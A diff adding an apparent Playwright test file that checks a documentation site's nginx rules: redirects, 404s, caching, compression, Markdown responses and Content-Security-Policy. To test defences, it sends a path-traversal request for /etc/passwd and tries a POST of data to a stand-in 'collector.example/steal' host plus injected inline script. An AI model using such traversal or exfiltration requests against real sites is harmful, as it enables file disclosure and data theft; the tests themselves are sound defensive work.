@@ -1,0 +1,182 @@
+// The hosting rules as a reader's browser meets them: every browser test runs against nginx with the
+// generated configuration (npm run preview); these tests check what only the server decides.
+import {readFileSync} from 'node:fs';
+import {test, expect, open} from './helpers';
+import {SECTION_ROOT_REDIRECTS} from '../../src/redirects';
+
+type Rules = {
+  headers: Record<string, string>;
+  markdown: {route: string; file: string}[];
+};
+/** What the build generated for the host (deploy/rules.json, written by scripts/hosting/build.mjs). */
+const rules = JSON.parse(readFileSync('deploy/rules.json', 'utf8')) as Rules;
+
+const noRedirect = {maxRedirects: 0} as const;
+
+test.describe('redirects on the server', () => {
+  for (const {from, to} of SECTION_ROOT_REDIRECTS) {
+    for (const path of [from, `${from}/`]) {
+      test(`${path} → ${to} (301)`, async ({request}) => {
+        const response = await request.get(path, noRedirect);
+        expect(response.status()).toBe(301);
+        expect(response.headers()['location']).toBe(to);
+      });
+    }
+  }
+
+  test('a trailing .html or /index.html is stripped permanently, the query kept', async ({request}) => {
+    for (const [path, to] of [
+      ['/docs/faq.html', '/docs/faq'],
+      ['/docs/faq/index.html', '/docs/faq'],
+      ['/ios/2.2/introduction.html?x=1', '/ios/2.2/introduction?x=1'],
+      ['/index.html', '/'],
+    ]) {
+      const response = await request.get(path, noRedirect);
+      expect(response.status(), path).toBe(301);
+      expect(response.headers()['location'], path).toBe(to);
+    }
+  });
+
+  test('one canonical trailing-slash form: a page with a trailing slash redirects to it', async ({request}) => {
+    const response = await request.get('/docs/faq/', noRedirect);
+    expect(response.status()).toBe(301);
+    expect(response.headers()['location']).toBe('/docs/faq');
+  });
+
+  test('a section root opens its introduction in the browser with no client redirect page', async ({page}) => {
+    const response = await open(page, '/ios/2.2');
+    expect(response?.request().redirectedFrom()?.url()).toMatch(/\/ios\/2\.2$/);
+    expect(new URL(page.url()).pathname).toBe('/ios/2.2/introduction');
+  });
+});
+
+test.describe('not found', () => {
+  test('an unknown path is a 404 with the branded not-found page', async ({page, request}) => {
+    const response = await request.get('/docs/no-such-page');
+    expect(response.status()).toBe(404);
+    expect(response.headers()['content-type']).toContain('text/html');
+    await open(page, '/docs/no-such-page');
+    await expect(page.getByRole('heading', {level: 1})).toContainText(/not found/i);
+    await expect(page.locator('nav.navbar')).toBeVisible();
+  });
+
+  test('a path that climbs out of the site is refused; a very long path is not found, not an error', async ({
+    request,
+  }) => {
+    const climb = await request.get('/docs/%2e%2e/%2e%2e/%2e%2e/etc/passwd', noRedirect);
+    expect([400, 404]).toContain(climb.status());
+    expect(await climb.text()).not.toContain('root:');
+    const long = await request.get(`/docs/${'a'.repeat(3000)}`, noRedirect);
+    expect([404, 414]).toContain(long.status());
+  });
+});
+
+test.describe('caching', () => {
+  test('hashed assets are immutable for a year; HTML and unhashed files revalidate', async ({page, request}) => {
+    const assets: string[] = [];
+    page.on('response', (response) => {
+      if (new URL(response.url()).pathname.startsWith('/assets/')) assets.push(response.url());
+    });
+    const html = await open(page, '/docs/faq');
+    expect(html?.headers()['cache-control']).toBe('no-cache');
+    expect(html?.headers()['etag'] ?? html?.headers()['last-modified']).toBeTruthy();
+    expect(assets.length).toBeGreaterThan(0);
+    for (const asset of assets.slice(0, 5)) {
+      const response = await request.get(asset);
+      expect(response.headers()['cache-control'], asset).toBe('public, max-age=31536000, immutable');
+    }
+    for (const path of ['/llms.txt', '/docs/faq.md', '/sitemap.xml', '/api/openapi.yaml']) {
+      const response = await request.get(path);
+      expect(response.status(), path).toBe(200);
+      expect(response.headers()['cache-control'], path).toBe('no-cache');
+    }
+  });
+
+  test('a page revalidates to 304 with its ETag', async ({request}) => {
+    const first = await request.get('/docs/faq');
+    const etag = first.headers()['etag'];
+    expect(etag).toBeTruthy();
+    const again = await request.get('/docs/faq', {headers: {'If-None-Match': etag}});
+    expect(again.status()).toBe(304);
+  });
+});
+
+test.describe('precompression', () => {
+  for (const [accept, encoding] of [
+    ['br, gzip', 'br'],
+    ['gzip', 'gzip'],
+    ['identity', undefined],
+  ] as const) {
+    test(`Accept-Encoding: ${accept} gets ${encoding ?? 'the file as it is'}`, async ({playwright}) => {
+      // A request context that does not decode, so the encoding sent is the one seen.
+      const context = await playwright.request.newContext({
+        baseURL: test.info().project.use.baseURL,
+        extraHTTPHeaders: {'Accept-Encoding': accept},
+      });
+      for (const path of ['/docs/faq', '/llms.txt']) {
+        const response = await context.fetch(path);
+        expect(response.status(), path).toBe(200);
+        expect(response.headers()['content-encoding'], path).toBe(encoding);
+        expect(response.headers()['vary'], path).toContain('Accept-Encoding');
+      }
+      await context.dispose();
+    });
+  }
+});
+
+test.describe('Markdown for agents', () => {
+  test('Accept: text/markdown gets the page as Markdown; the page varies by Accept', async ({request}) => {
+    const {route} = rules.markdown.find(({route}) => route === '/docs/faq') ?? rules.markdown[0];
+    const markdown = await request.get(route, {headers: {Accept: 'text/markdown'}});
+    expect(markdown.status()).toBe(200);
+    expect(markdown.headers()['content-type']).toContain('text/markdown');
+    expect(await markdown.text()).toMatch(/^# /m);
+    const html = await request.get(route);
+    expect(html.headers()['content-type']).toContain('text/html');
+    expect(html.headers()['vary']).toContain('Accept');
+  });
+});
+
+test.describe('Content-Security-Policy', () => {
+  test('every response carries the security headers, errors included', async ({request}) => {
+    for (const path of ['/', '/docs/faq', '/docs/no-such-page', '/assets/css/missing.css']) {
+      const headers = (await request.get(path, noRedirect)).headers();
+      for (const [name, value] of Object.entries(rules.headers)) expect(headers[name.toLowerCase()], path).toBe(value);
+      expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*'unsafe-inline'/);
+    }
+  });
+});
+
+test.describe('Content-Security-Policy in the browser', () => {
+  // Every other browser test fails on any policy violation (tests/e2e/helpers.ts); the explorer's
+  // request to the API host the reader chose is api-reference.spec.ts. Here the policy must stop things.
+  test.use({allowedCspViolations: /collector\.example|inline script/});
+
+  test('a script cannot send data to another host or run injected inline code', async ({page}) => {
+    await open(page, '/api/reference/get-corridor-data-geo-fencing');
+    const violations = page.evaluate(
+      () =>
+        new Promise<string[]>((resolve) => {
+          const seen: string[] = [];
+          document.addEventListener('securitypolicyviolation', (event) => {
+            seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
+            if (seen.length === 2) resolve(seen);
+          });
+        }),
+    );
+    const sent = await page.evaluate(() =>
+      fetch('https://collector.example/steal', {method: 'POST', body: 'key'}).then(
+        () => 'sent',
+        () => 'blocked',
+      ),
+    );
+    expect(sent).toBe('blocked');
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.injected = true;';
+      document.body.append(script);
+    });
+    expect(await page.evaluate(() => (window as unknown as {injected?: boolean}).injected)).toBeUndefined();
+    expect(await violations).toEqual(['connect-src https://collector.example/steal', 'script-src-elem inline']);
+  });
+});
